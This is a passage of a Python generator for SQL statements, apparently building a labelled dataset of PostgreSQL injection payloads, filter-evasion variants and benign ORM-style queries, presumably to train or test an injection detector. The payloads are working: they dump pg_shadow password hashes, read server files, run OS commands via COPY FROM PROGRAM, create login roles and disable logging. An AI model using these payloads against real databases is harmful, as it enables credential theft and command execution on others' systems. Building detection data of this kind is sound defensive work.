            ("do_execute_concat", "DO $$ BEGIN EXECUTE 'SEL' || 'ECT pg_sleep(%d)'; END $$" % s),
            ("sql_function_leak", "CREATE FUNCTION %s() RETURNS SETOF text LANGUAGE sql AS $$ SELECT passwd::text FROM pg_shadow $$; SELECT * FROM %s()" % (nm, nm))]]
    if fam == "dollar_quote":
        tg = r.choice(["$$", "$q$", "$a$", "$x$", "$%s$" % rword(r, 3)])
        D = lambda v: tg + v + tg
        return [
            ("or_dollar_eq", "cond", "OR %s=%s" % (D(w), D(w)), PG), ("union_dollar", "union", "UNION SELECT %s,passwd FROM pg_shadow" % D(w), PG),
            ("copy_program_dollar", "stack", "CREATE TABLE %s(o text); COPY %s FROM PROGRAM %s" % (nm, nm, D(cmd)), PG),
            ("user_eq_dollar", "cond", "AND current_user=%s" % D("postgres"), PG), ("insert_dollar", "stack", "INSERT INTO %s(%s,%s) VALUES(%s,%s)" % (t, u, p, D(nm), D(rword(r, 8))), PG),
            ("read_file_dollar", "stack", "SELECT pg_read_file(%s)" % D(f), PG), ("set_config_dollar", "stack", "SELECT set_config(%s,%s,false)" % (D("log_statement"), D("none")), PG),
            ("cast_dollar", "cond", "AND 1=CAST(%s||version() AS int)" % D("~"), PG), ("like_dollar", "cond", "OR %s LIKE %s" % (D(w), D(w[:1] + "%")), PG),
            ("concat_dollar", "concat", "(SELECT %s||current_user)" % D(w), PG), ("role_dollar_pw", "stack", "CREATE ROLE %s LOGIN PASSWORD %s" % (nm, D(rword(r, 9))), PG),
            ("dblink_dollar", "stack", "SELECT dblink_exec(%s,%s)" % (D("host=%s dbname=x" % host), D("SELECT 1")), PG),
            ("sleep_dollar_cast", "cond", "AND pg_sleep(%s::int) IS NULL" % D(str(s)), PG)]
    if fam == "e_escape":
        enc = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        octal = lambda v: "".join("\\%03o" % ord(c) for c in v)
        uni = lambda v: "".join("\\%04x" % ord(c) for c in v)
        return [
            ("e_hex_eq", "cond", "OR E'\\x%02x'=E'\\x%02x'" % (ord(w[0]), ord(w[0])), PG), ("e_hex_user", "cond", "AND current_user=E'%s'" % enc("postgres"), PG),
            ("e_octal_eq", "cond", "OR E'%s'='%s'" % (octal(w), w), PG), ("u_amp_user", "cond", "AND current_user=U&'%s'" % uni("postgres"), PG),
            ("u_amp_uescape", "cond", "OR U&'!%04x' UESCAPE '!'='%s'" % (ord(w[0]), w[0]), PG),
            ("e_hex_file", "stack", "SELECT pg_read_file(E'%s')" % enc(f), PG), ("e_union_label", "union", "UNION SELECT E'%s',usename FROM pg_user" % enc(w), PG),
            ("e_unicode_esc", "cond", "OR E'\\u%04x'='%s'" % (ord(w[0]), w[0]), PG), ("e_escaped_quote", "cond", "OR E'\\''=E'\\''", PG),
            ("u_amp_ident_sleep", "cond", "AND U&\"%s\"(%d) IS NULL" % (uni("pg_sleep"), s), PG),
            ("e_hex_table", "stack", "SELECT * FROM %s WHERE %s=E'%s'" % (t, u, enc(who)), PG),
            ("e_cast_hex", "cond", "AND 1=CAST(E'\\x7e'||version() AS int)", PG), ("e_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % enc(cmd.split()[0]), PG)]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("user", "(SELECT current_user)"), ("loot_agg", "(SELECT string_agg(%s||':'||%s, ',') FROM %s)" % (u, p, t)), ("version", "version()"),
            ("db", "current_database()"), ("shadow_first", "(SELECT passwd FROM pg_shadow LIMIT 1)"), ("tables_agg", "(SELECT string_agg(tablename,',') FROM pg_tables WHERE schemaname='public')"),
            ("settings", "current_setting('config_file')"), ("addr", "host(inet_server_addr())"), ("roles", "(SELECT string_agg(rolname,'|') FROM pg_roles)"),
            ("who_pw", "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who)), ("backend_pid", "pg_backend_pid()::text"), ("hba_path", "current_setting('hba_file')"),
            ("xml_dump", "query_to_xml('SELECT * FROM %s',true,false,'')::text" % t)]]
    # ---- the sqlmap families, written by hand in the same technique
    if fam == "sqlmap_boolean_blind":
        c = infer(r)
        cols = [x for x in si["orig"] if re.fullmatch(r"[a-z_]+", x)] or ["1", "2"]
        c1, c2 = (cols + cols)[0], (cols + cols)[1]
        x = r.randint(1, 9999)
        return [
            ("true_pair", "cond", "AND %d=%d" % (x, x), "generic"), ("false_pair", "cond", "AND %d=%d" % (x, x + r.randint(1, 9)), "generic"),
            ("string_pair", "cond", "AND '%s'='%s'" % (w, w), "generic"), ("infer", "cond", "AND " + c, PG), ("infer", "cond", "AND " + infer(r), PG),
            ("infer_or", "cond", "OR " + infer(r), PG), ("case_eq_1", "cond", "AND (SELECT CASE WHEN (%s) THEN 1 ELSE 0 END)=1" % c, PG),
            ("portswigger_subquery", "cond", "AND " + portswigger_cond(r), PG), ("portswigger_open", "open", ("AND ", portswigger_cond(r)[:-1]), PG),
            ("exists_guess", "cond", "AND EXISTS(SELECT 1 FROM %s WHERE %s='%s' AND SUBSTRING(%s,%d,1)='%s')" % (t, u, who, p, r.randint(1, 20), r.choice(ALNUM)), PG),
            ("count_guess", "cond", "AND (SELECT COUNT(*) FROM %s WHERE %s='%s' AND LENGTH(%s)>%d)=1" % (t, u, who, p, r.randint(1, 30)), PG),
            ("conditional_error", "cond", "AND 1=(CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END)" % c, PG),
            ("replace_case", "repl", "(CASE WHEN (%s) THEN %s ELSE %d END)" % (c, si["orig"][0] if si["type"] in ("n", "list") else "1", r.randint(100000, 999999)), PG),
            ("replace_error", "repl", "(SELECT CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END)" % c, PG),
            ("concat_case", "concat", "(SELECT CASE WHEN (%s) THEN '' ELSE '%s' END)" % (c, w), PG),
            ("order_case", "order", "(CASE WHEN (%s) THEN %s ELSE %s END)" % (c, c1, c2), PG), ("order_error", "order", "(SELECT CASE WHEN (%s) THEN 1 ELSE 1/0 END)" % c, PG)] + foreign(r, [
            ("mysql_if", "cond", "AND IF(%s,1,0)" % c.replace("SUBSTRING", "MID"), "MySQL"), ("mssql_len", "cond", "AND LEN(DB_NAME())>%d" % r.randint(1, 9), "Microsoft SQL Server")])
    if fam == "sqlmap_time_blind":
        c = infer(r)
        pc = portswigger_cond(r).replace("(SELECT 'a' FROM ", "(SELECT 'a' FROM ")
        heavy = r.choice([5000000, 10000000, 20000000, 40000000])
        return [
            ("case_sleep_stack", "stack", "SELECT CASE WHEN (%s) THEN pg_sleep(%d) ELSE pg_sleep(0) END" % (c, s), PG),
            ("portswigger_case_from_users", "stack", "SELECT CASE WHEN (%s='%s' AND SUBSTRING(%s,%d,1)='%s') THEN pg_sleep(%d) ELSE pg_sleep(0) END FROM %s" % (u, who, p, r.randint(1, 20), r.choice(ALNUM), s, t), PG),
            ("portswigger_len_from_users", "stack", "SELECT CASE WHEN (%s='%s' AND LENGTH(%s)>%d) THEN pg_sleep(%d) ELSE pg_sleep(0) END FROM %s" % (u, who, p, r.randint(1, 25), s, t), PG),
            ("sleep_where", "stack", "SELECT pg_sleep(%d) WHERE %s" % (s, c), PG), ("sleep_bool_mul", "stack", "SELECT pg_sleep((%s)::int*%d)" % (c, s), PG),
            ("sleep_case_arg", "cond", "AND 1=(SELECT 1 FROM pg_sleep(CASE WHEN (%s) THEN %d ELSE 0 END))" % (c, s), PG),
            ("case_then_sleep", "cond", "AND %d=(CASE WHEN (%s) THEN (SELECT %d FROM pg_sleep(%d)) ELSE %d END)" % ((lambda v: (v, c, v, s, v))(r.randint(1000, 9999))), PG),
            ("or_case_sleep_null", "cond", "OR (SELECT CASE WHEN (%s) THEN pg_sleep(%d) END) IS NULL" % (c, s), PG),
            ("heavy_case", "cond", "AND (SELECT count(*) FROM generate_series(1,CASE WHEN (%s) THEN %d ELSE 1 END))>0" % (c, heavy), PG),
            ("heavy_then", "cond", "AND CASE WHEN (%s) THEN (SELECT count(*) FROM generate_series(1,%d)) ELSE 0 END>=0" % (c, heavy), PG),
            ("sleep_for_case", "cond", "AND pg_sleep_for(CASE WHEN (%s) THEN '%d seconds' ELSE '0' END::interval) IS NULL" % (c, s), PG),
            ("concat_case_sleep", "concat", "(SELECT CASE WHEN (%s) THEN pg_sleep(%d) ELSE pg_sleep(0) END)" % (c, s), PG),
            ("concat_portswigger", "concat", "(SELECT CASE WHEN (%s) THEN pg_sleep(%d) ELSE pg_sleep(0) END)" % (pc, s), PG),
            ("replace_case_sleep", "repl", "(SELECT CASE WHEN (%s) THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (c, s), PG),
            ("order_case_sleep", "order", "(SELECT CASE WHEN (%s) THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (c, s), PG),
            ("detect_sleep", "cond", "AND %d=(SELECT %d FROM pg_sleep(%d))" % ((lambda v: (v, v, s))(r.randint(1000, 9999))), PG)] + foreign(r, [
            ("mysql_sleep", "cond", "AND SLEEP(%d)" % s, "MySQL"), ("mysql_if_sleep", "cond", "OR IF(1=1,SLEEP(%d),0)" % s, "MySQL"),
            ("mysql_subquery_sleep", "cond", "AND (SELECT * FROM (SELECT(SLEEP(%d)))%s)" % (s, rword(r, 4)), "MySQL"),
            ("mssql_waitfor", "stack", "WAITFOR DELAY '0:0:%d'" % s, "Microsoft SQL Server"), ("oracle_pipe", "cond", "AND 1=dbms_pipe.receive_message(('%s'),%d)" % (w, s), "Oracle"),
            ("mysql_benchmark", "cond", "AND BENCHMARK(%d000000,MD5(1))" % r.choice([5, 10, 50]), "MySQL"),
            ("polyglot_sleep", "raw", "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", "MySQL")])
    if fam == "sqlmap_error_based":
        lm, rm = r.choice([("~", "~"), ("::", "::"), ("[", "]"), ("<<", ">>"), ("^", "^"), ("|", "|"), ("!!", "!!"), ("x", "x")])
        e = secret(r)
        n = r.randint(0, 12)
        return [
            ("cast_markers", "cond", "AND 1=CAST('%s'||(%s)::text||'%s' AS int)" % (lm, e, rm), PG),
            ("cast_chr_markers", "cond", "AND CAST(chr(126)||(%s)::text||chr(126) AS numeric)=1" % e, PG),
            ("colon_cast_markers", "cond", "AND 1=('%s'||(%s)||'%s')::int" % (lm, e, rm), PG),
            ("offset_dump", "cond", "OR 1=CAST((SELECT '%s'||%s||'%s'||%s FROM %s LIMIT 1 OFFSET %d) AS int)" % (lm, u, rm, p, t, n), PG),
            ("agg_dump", "cond", "AND (SELECT '%s'||string_agg(%s,',')||'%s' FROM %s)::numeric>0" % (lm, u, rm, t), PG),
            ("pair_dump", "cond", "AND 1=CAST((SELECT %s||':'||%s FROM %s LIMIT 1) AS integer)" % (u, p, t), PG),
            ("value_cast", "repl", "CAST('%s'||(%s)::text||'%s' AS NUMERIC)" % (lm, e, rm), PG),
            ("value_subquery_cast", "repl", "(SELECT CAST('%s'||(%s)::text||'%s' AS int))" % (lm, e, rm), PG),
            ("concat_cast", "concat", "CAST('%s'||(%s)::text||'%s' AS int)::text" % (lm, e, rm), PG),
            ("order_cast", "order", "CAST('%s'||(%s)::text||'%s' AS int)" % (lm, e, rm), PG),
            ("xml_table_dump", "cond", "AND 1=CAST(query_to_xml('SELECT %s,%s FROM %s',true,true,'')::text AS int)" % (u, p, t), PG),
            ("xml_schema_dump", "cond", "AND 1=CAST(schema_to_xml('public',true,true,'')::text AS int)", PG),
            ("count_cast", "cond", "AND 1=CAST('%s'||(SELECT count(*) FROM %s)::text||'%s' AS int)" % (lm, t, rm), PG)] + foreign(r, [
            ("mysql_extractvalue", "cond", "AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))", "MySQL"),
            ("mysql_updatexml", "cond", "AND updatexml(1,concat(0x7e,(SELECT user()),0x7e),1)", "MySQL"),
            ("mssql_convert", "cond", "AND 1=CONVERT(int,@@version)", "Microsoft SQL Server"),
            ("mssql_convert_name", "cond", "AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))", "Microsoft SQL Server")])
    if fam == "sqlmap_stacked_queries":
        c = infer(r)
        out = [("sleep", "stack", "SELECT pg_sleep(%d)" % s, PG), ("sleep_upper", "stack", "SELECT PG_SLEEP(%d)" % s, PG), ("sleep_lower", "stack", "select pg_sleep(%d)" % s, PG),
               ("case_sleep", "stack", "SELECT CASE WHEN (%s) THEN pg_sleep(%d) END" % (c, s), PG),
               ("heavy", "stack", "SELECT count(*) FROM generate_series(1,%d)" % r.choice([5000000, 10000000, 30000000]), PG),
               ("sleep_from_users", "stack", "SELECT pg_sleep(%d) FROM %s WHERE %s='%s' AND %s" % (s, t, u, who, infer(r, p)), PG),
               ("sleep_for", "stack", "SELECT pg_sleep_for('%d seconds')" % s, PG), ("sleep_then_select", "stack", "SELECT 1; SELECT pg_sleep(%d)" % s, PG),
               ("case_heavy", "stack", "SELECT CASE WHEN (%s) THEN (SELECT count(*) FROM generate_series(1,%d)) END" % (c, r.choice([5000000, 20000000])), PG)] + foreign(r, [
               ("mssql_waitfor", "stack", "WAITFOR DELAY '0:0:%d'" % s, "Microsoft SQL Server"), ("mysql_sleep", "stack", "SELECT SLEEP(%d)" % s, "MySQL"),
               ("oracle_dbms_lock", "stack", "BEGIN DBMS_LOCK.SLEEP(%d); END" % s, "Oracle")])
        if r.random() < 0.2:
            out = [("takeover_output_table", "stack", "CREATE TABLE %s(output text)" % nm, PG), ("takeover_cmd", "stack", "COPY %s FROM PROGRAM '%s'" % (nm, cmd), PG),
                   ("takeover_lo_import", "stack", "SELECT lo_import('%s', %d)" % (f, r.randint(10000, 99999)), PG),
                   ("takeover_cleanup", "stack", "DROP TABLE IF EXISTS %s" % nm, PG)]
        return out
    if fam == "sqlmap_inline_query":
        lm, rm = r.choice([("~", "~"), ("::", "::"), ("[", "]"), ("qq", "qq"), ("#", "#")])
        e = secret(r)
        return [
            ("marker_concat", "repl", "(SELECT '%s'||(%s)::text||'%s')" % (lm, e, rm), PG), ("concat_fn", "repl", "(SELECT concat('%s',%s,'%s'))" % (lm, e, rm), PG),
            ("plain_subquery", "repl", "(SELECT %s)" % e, PG), ("table_value", "repl", "(SELECT %s FROM %s LIMIT 1)" % (p, t), PG),
            ("agg_value", "repl", "(SELECT string_agg(%s,'%s') FROM %s)" % (u, lm, t), PG), ("case_marker", "repl", "(SELECT CASE WHEN (%s) THEN '1' ELSE '0' END)" % infer(r), PG),
            ("count_value", "repl", "(SELECT count(*) FROM %s)" % t, PG), ("marker_concat_str", "concat", "(SELECT '%s'||(%s)::text||'%s')" % (lm, e, rm), PG)]
    if fam == "sqlmap_union_query":
        n = r.randint(1, 7)
        pos = r.randrange(n)
        lm = r.choice(["~", "::", "|", "^^"])
        kw = r.choice(["UNION SELECT", "UNION ALL SELECT", "union all select", "UNION SELECT"])
        return [
            ("order_by_probe", "union", "ORDER BY %d" % r.randint(1, 12), "generic"), ("null_count", "union", "%s %s" % (kw, nulls(n)), "generic"),
            ("text_probe", "union", "%s %s" % (kw, nulls(n, pos, "'%s'" % rword(r, r.randint(1, 6)))), "generic"),
            ("number_columns", "union", "%s %s" % (kw, ",".join(str(i + 1) for i in range(n))), "generic"),
            ("dump_markers", "union", "%s %s FROM %s" % (kw, nulls(n, pos, "'%s'||%s||'%s'||%s||'%s'" % (lm, u, lm, p, lm)), t), PG),
            ("dump_offset", "union", "%s %s FROM %s LIMIT 1 OFFSET %d" % (kw, nulls(n, pos, "%s||'%s'||%s" % (u, lm, p)), t, r.randint(0, 9)), PG),
            ("tables_offset", "union", "%s %s FROM information_schema.tables LIMIT 1 OFFSET %d" % (kw, nulls(n, pos, "table_name"), r.randint(0, 40)), PG),
            ("null_from_pg_user", "union", "%s %s FROM pg_user" % (kw, nulls(n)), PG), ("banner", "union", "%s %s" % (kw, nulls(n, pos, "'%s'||version()||'%s'" % (lm, lm))), PG)] + foreign(r, [
            ("mysql_concat", "union", "%s %s" % (kw, nulls(n, pos, "CONCAT(0x7e,user(),0x7e)")), "MySQL"),
            ("mssql_version", "union", "%s %s" % (kw, nulls(n, pos, "@@version")), "Microsoft SQL Server")])
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a core into a slot
def endc(r):
    """How testers end an injection in PostgreSQL (the rare unterminated /* is a habit from MySQL)."""
    return r.choice(["--", "--", "--", "-- -", "-- -", "--+", "-- x", "--" + rword(r, 2), ";--", "; --", "--'", "/*"])


def lead_value(r, si, orig):
    if si["type"] in ("q", "e"):
        return r.choice([orig, orig, orig, "", "", "x", "1", "test", "abc"])
    return orig


MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat", "raw"), "e": ("cond", "open", "union", "stack", "repl", "concat", "raw"),
         "d": ("cond", "union", "stack", "repl", "concat", "raw"), "qi": ("cond", "union", "stack"), "n": ("cond", "union", "stack", "repl", "concat", "raw"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}


def fitting(si, cores):
    """The cores whose mode has a form for this slot."""
    return [c for c in cores if c[1] in MODES[si["type"]] and not (c[1] == "open" and si["hand_close"] is not None)]


def build(r, si, orig, mode, core):
    """The text a tester types into this slot to run core; None where the
    technique has no sensible form for the slot."""
    typ, cl, lead, over = si["type"], si["closers"], si["lead"], si["hand_close"]
    if lead == "SET" and mode != "stack":
        return None
    if si["between"] and mode not in ("stack", "repl", "concat"):
        return None
    if mode == "union" and (lead != "SELECT" or typ in ("col", "dir", "ident")):
        return None
    sp = lambda: r.choice([" ", " ", ""])
    if mode == "raw":
        return core
    # inside a call, a VALUES row, an IN list or a LATERAL subquery a tester stays inside the brackets for a condition
    boxed = bool(cl) and bool(si["ctx"]) and si["ctx"][-1] != ""
    if typ in STRING_TYPES:
        qc = CLOSER[typ]
        close = over if over is not None else qc + cl
        if lead == "WITH" and si["depth"] and mode == "stack":
            close += " SELECT 1"
        lv = lead_value(r, si, orig)
        if typ == "qi":
            if mode == "cond":
                return orig + '" WHERE ' + strip_andor(core) + sp() + endc(r)
            if mode == "union":
                return orig + '" ' + core + sp() + endc(r)
            if mode == "stack":
                return orig + close + ";" + sp() + core + r.choice([";", ""]) + endc(r)
            return None
        if mode == "open":
            if typ not in ("q", "e") or over is not None:
                return None
            left, right = core
            if boxed:
                return lv + qc + " " + left + right
            return lv + qc + cl + " " + left + "(" * len(cl) + right
        if mode in ("repl", "concat"):
            if typ == "d":
                return orig + TAG + " || " + core + " || " + TAG
            j = r.choice(["||", "||", " || "])
            return lv + qc + j + core + j + qc
        if mode == "order":
            return None
        if mode == "cond":
            if over is None and typ in ("q", "e") and boxed and r.random() < 0.75:
                ww = r.choice(["a", "x", "1", rword(r, 3)])
                return lv + qc + " " + core + " AND '%s'='%s" % (ww, ww)
            if over is None and typ in ("q", "e") and not boxed and r.random() < 0.35:
                ww = r.choice(["a", "x", "1", rword(r, 3)])
                return lv + qc + cl + " " + core + " AND " + "(" * len(cl) + "'%s'='%s" % (ww, ww)
            return lv + close + " " + core + sp() + endc(r)
        if mode == "union":
            return r.choice([lv, "", "x", "-1"]) + close + " " + core + sp() + endc(r)
        if mode == "stack":
            return lv + close + ";" + sp() + core + r.choice([";", ";", ""]) + sp() + endc(r)
        return None
    if typ in ("n", "list"):
        close = over if over is not None else cl
        if mode == "open":
            return None
        if mode == "repl":
            return core if typ == "n" or r.random() < 0.5 else orig + ", " + core
        if mode == "concat":
            return orig + r.choice(["+length((%s)::text)", "-ascii((%s)::text)", "*sign(length((%s)::text))", "+0*length(%s::text)"]) % core
        if mode == "order":
            return None
        if mode == "cond":
            if boxed and over is None:
                return orig + " " + core
            if close:
                return orig + close + " " + core + sp() + endc(r)
            return orig + " " + core + (sp() + endc(r) if si["tail_means"] and r.random() < 0.5 else "")
        if mode == "union":
            return r.choice([orig, "-1", "0", "999999"]) + close + " " + core + sp() + endc(r)
        if mode == "stack":
            if lead == "WITH" and si["depth"]:
                close += " SELECT 1"
            return orig + close + ";" + sp() + core + r.choice([";", ""]) + (sp() + endc(r) if close or si["tail_means"] or r.random() < 0.5 else "")
        return None
    if typ in ("col", "dir"):
        if mode == "cond":
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % strip_andor(core)
        if mode == "order":
            if typ == "col":
                return core if r.random() < 0.5 else orig + ", " + core
            return orig + ", " + core
        if mode == "repl" and typ == "col":
            return core
        if mode == "stack":
            return orig + ";" + sp() + core + sp() + endc(r)
        return None
    if typ == "ident":
        if mode == "stack":
            return orig + r.choice([";", "; "]) + core + r.choice(["", "", "--", ";"])
        return None
    return None


# ---------------------------------------------------------------- obfuscation (outside literals and comments only)
def segments(s, typ):
    """(text, editable) pieces of what the user typed.  The input starts inside
    its slot's literal when the slot is a quoted one."""
    out, i, n = [], 0, len(s)
    if typ in STRING_TYPES:
        cl = CLOSER[typ]
        j = s.find(cl)
        if j < 0:
            return [(s, False)]
        out.append((s[:j + len(cl)], False))
        i = j + len(cl)
    buf = []
    while i < n:
        c = s[i]
        end = None
        if s.startswith("--", i):
            end = s.find("\n", i)
            end = n if end < 0 else end
        elif s.startswith("/*", i):
            end = s.find("*/", i + 2)
            end = n if end < 0 else end + 2
        elif c in "'\"":
            glued_e = i > 0 and s[i - 1] in "eE" and not (i > 1 and (s[i - 2].isalnum() or s[i - 2] == "_"))
            end = quoted_end(s, i + 1, c, glued_e) or n
        elif c == "$":
            m = DOLLAR_TAG.match(s, i)
            if m and not (i > 0 and (s[i - 1].isalnum() or s[i - 1] == "_")):
                k = s.find(m.group(0), i + len(m.group(0)))
                end = n if k < 0 else k + len(m.group(0))
        if end is None:
            buf.append(c)
            i += 1
            continue
        if buf:
            out.append(("".join(buf), True))
            buf = []
        out.append((s[i:end], False))
        i = end
    if buf:
        out.append(("".join(buf), True))
    return out


def edit(s, typ, fn):
    segs = segments(s, typ)
    return "".join(fn(t, idx, len(segs)) if e else t for idx, (t, e) in enumerate(segs))


SPLITTABLE = ["UNION", "SELECT", "FROM", "WHERE", "SLEEP", "CAST", "ORDER", "INSERT", "UPDATE", "DROP", "COPY", "PROGRAM", "VERSION"]


def obfuscate(r, fam, s, typ):
    if fam == "obf_case_mix":
        k = r.random()
        if k < 0.55:
            swap = lambda m: "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in m.group(0))
        elif k < 0.8:
            swap = lambda m: "".join(ch.lower() if j % 2 else ch.upper() for j, ch in enumerate(m.group(0)))
        else:
            swap = lambda m: m.group(0)[:-1].lower() + m.group(0)[-1].upper() if len(m.group(0)) > 2 else m.group(0).swapcase()
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]{2,}", swap, t))
    if fam == "obf_whitespace":
        pool = ["\t", "\n", "\r", "\f", "\r\n", "\t\t", "\n\t", " \f ", "\f\f", "  \t", "\n\n"]
        return edit(s, typ, lambda t, i, n: re.sub(r" +", lambda m: r.choice(pool), t))
    if fam == "obf_inline_comment":
        pool = ["/**/", "/**/", "/**/", "/*%s*/" % rword(r, r.randint(1, 5)), "/* */", "/*/**/*/", "/*!*/", "/**//**/", "/*\t*/", "/*--*/"]
        split = r.random() < 0.12

        def commented(t, i, n):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if r.random() < 0.3:
                t = re.sub(r"\b([A-Za-z_]+)\(", lambda m: m.group(1) + r.choice(["/**/(", "(", "/*x*/("]), t)
            if split:
                for kw in SPLITTABLE:
                    t = re.sub(r"\b%s\b" % kw, lambda m: m.group(0)[:2] + "/**/" + m.group(0)[2:], t, flags=re.I, count=1)
            return t
        return edit(s, typ, commented)
    if fam == "obf_nospace":
        def squeezed(t, i, n):
            t = re.sub(r" *([=<>!|,()+*;~]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|SELECT|select|WHERE|where|NOT|not) (\d+|[a-z_]+\(\)|current_user|true|version\(\))", lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            if i > 0 or typ in STRING_TYPES:
                t = t.lstrip(" ")
            if i + 1 < n:
                t = t.rstrip(" ")
            return t
        return edit(s, typ, squeezed)
    return s


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Saoirse Ní Bhriain", "Tendai Moyo", "Haruto Sasaki", "Ingrid Aasen", "Olufemi Adeyemi", "Marguerite D'Aubigné", "Rahul Venkataraman",
          "Zofia Wiśniewska", "Tomás Ó Briain", "Amaru Quispe", "Freya Lindgren", "Kwame Boateng", "Léa Fontaine", "Nikolai Petrov"]
NOTES = ["bunk 6 slat replaced", "caller said \"ring the bell twice\"", "select the lower path if icy", "union meeting moved to Thursday",
         "fee paid -- receipt 4471", "O'Rourke collected the keys", "50% deposit received", "fragile; glass panel inside", "awaiting attorney sign-off",
         "contains nuts", "re-check Monday", "update: bus 4417 off road", "drop at the hut's back door", "where clause in the report is fixed now"]
HUTS = ["GOUTER", "KNUBEL", "CAPANNA-MARGHERITA", "TRIFT", "REFUGIO-POQUI", "ELBRUS-BARRELS"]
DEPOTS = ["LEYTON", "DEPOT-STOCKWELL", "ARRIVA-BATLEY", "LOTHIAN-MARINE", "GO-AHEAD-NORTH"]
TOWERS = ["LEUVEN-ST-PIETER", "BOURNVILLE", "RIVERSIDE-NYC", "MECHELEN", "WELLESLEY"]


def complex_gens():
    G, add = registry()

    # ---- ORM and API-layer output
    @add("cx11_django_bunks", "complex_orm_generated")
    def _(r):
        return ('SELECT "huts_bunk"."id", "huts_bunk"."hut_id", "huts_bunk"."room", "huts_bunk"."berth" FROM "huts_bunk" '
                'WHERE ("huts_bunk"."hut_id" = %d AND NOT "huts_bunk"."out_of_service") ORDER BY "huts_bunk"."room" ASC, "huts_bunk"."berth" ASC' % r.randint(1, 60))

    @add("cx11_django_exists", "complex_orm_generated")
    def _(r):
        return ('SELECT "rota_shift"."id", "rota_shift"."ward", "rota_shift"."shift_start", EXISTS(SELECT 1 AS "a" FROM "rota_claim" U0 WHERE U0."shift_id" = ("rota_shift"."id") LIMIT 1) AS "is_claimed" '
                'FROM "rota_shift" WHERE "rota_shift"."shift_start" >= %s::timestamptz ORDER BY "rota_shift"."shift_start" ASC' % q(ts(r) + "+00:00"))

    @add("cx11_django_in_bulk", "complex_orm_generated")
    def _(r):
        ids = ", ".join(str(x) for x in sorted(r.sample(range(1, 5000), r.randint(2, 8))))
        return 'SELECT "patents_application"."id", "patents_application"."application_no", "patents_application"."title" FROM "patents_application" WHERE "patents_application"."id" IN (%s)' % ids

    @add("cx11_sqlalchemy_blocks", "complex_orm_generated")
    def _(r):
        return ("SELECT vine_blocks.block_code, vine_blocks.variety, vine_blocks.rootstock \nFROM vine_blocks \nWHERE vine_blocks.planted_year <= %d AND vine_blocks.retired IS false "
                "ORDER BY vine_blocks.block_code \n LIMIT %d OFFSET %d" % (r.randint(1990, 2020), r.choice([20, 50]), r.choice([0, 20, 40])))

    @add("cx11_sqlalchemy_subq", "complex_orm_generated")
    def _(r):
        return ("SELECT archers.archer_no, anon_1.best \nFROM archers JOIN (SELECT archery_scores.archer_no AS archer_no, max(archery_scores.total) AS best \nFROM archery_scores "
                "\nWHERE archery_scores.round_name = %s GROUP BY archery_scores.archer_no) AS anon_1 ON archers.archer_no = anon_1.archer_no ORDER BY anon_1.best DESC"
                % q(r.choice(["Portsmouth", "York", "WA 1440", "Western", "Bray I"])))

    @add("cx11_hibernate_bells", "complex_orm_generated")
    def _(r):
        return ("select cb1_0.id,cb1_0.bell_no,cb1_0.cast_year,cb1_0.founder,cb1_0.note_name,cb1_0.weight_kg from carillon_bells cb1_0 where cb1_0.tower_code=%s "
                "order by cb1_0.weight_kg desc fetch first %d rows only" % (q(r.choice(TOWERS)), r.choice([10, 25, 50])))

    @add("cx11_hibernate_insert", "complex_orm_generated")
    def _(r):
        return ("insert into bell_recitals (carillonneur,starts_at,tower_code,id) values (%s,%s,%s,%d)"
                % (q(r.choice(PEOPLE)), q(ts(r)), q(r.choice(TOWERS)), r.randint(1, 10 ** 6)))

    @add("cx11_rails_fleet", "complex_orm_generated")
    def _(r):
        return ('SELECT "bus_fleet".* FROM "bus_fleet" WHERE "bus_fleet"."depot_code" = %s AND "bus_fleet"."withdrawn_on" IS NULL ORDER BY "bus_fleet"."fleet_no" ASC LIMIT %d OFFSET %d'
                % (q(r.choice(DEPOTS)), r.choice([20, 25]), r.choice([0, 25, 50])))

    @add("cx11_rails_update", "complex_orm_generated")
    def _(r):
        t = ts(r) + ".%06d" % r.randint(0, 999999)
        return 'UPDATE "hut_supplies" SET "stock" = %d, "updated_at" = %s WHERE "hut_supplies"."id" = %d' % (r.randint(0, 300), q(t), r.randint(1, 9000))

    @add("cx11_sequelize_scores", "complex_orm_generated")
    def _(r):
        return ('SELECT "id", "archerNo", "roundName", "total", "shotOn" FROM "ArcheryScores" AS "ArcheryScore" WHERE "ArcheryScore"."clubCode" = %s AND "ArcheryScore"."total" >= %d '
                'ORDER BY "ArcheryScore"."total" DESC LIMIT %d;' % (q(r.choice(["ROYAL-TOX", "BOWMEN-OF-ARDEN", "ROBIN-HOOD-AC"])), r.randint(300, 1200), r.choice([10, 50])))

    @add("cx11_prisma_patents", "complex_orm_generated")
    def _(r):
        return ('SELECT "public"."PatentApplication"."id", "public"."PatentApplication"."applicationNo", "public"."PatentApplication"."title" FROM "public"."PatentApplication" '
                'WHERE ("public"."PatentApplication"."status" = $1 AND "public"."PatentApplication"."filedOn" >= $2) ORDER BY "public"."PatentApplication"."filedOn" DESC LIMIT $3 OFFSET $4')

    @add("cx11_typeorm_lamps", "complex_orm_generated")
    def _(r):
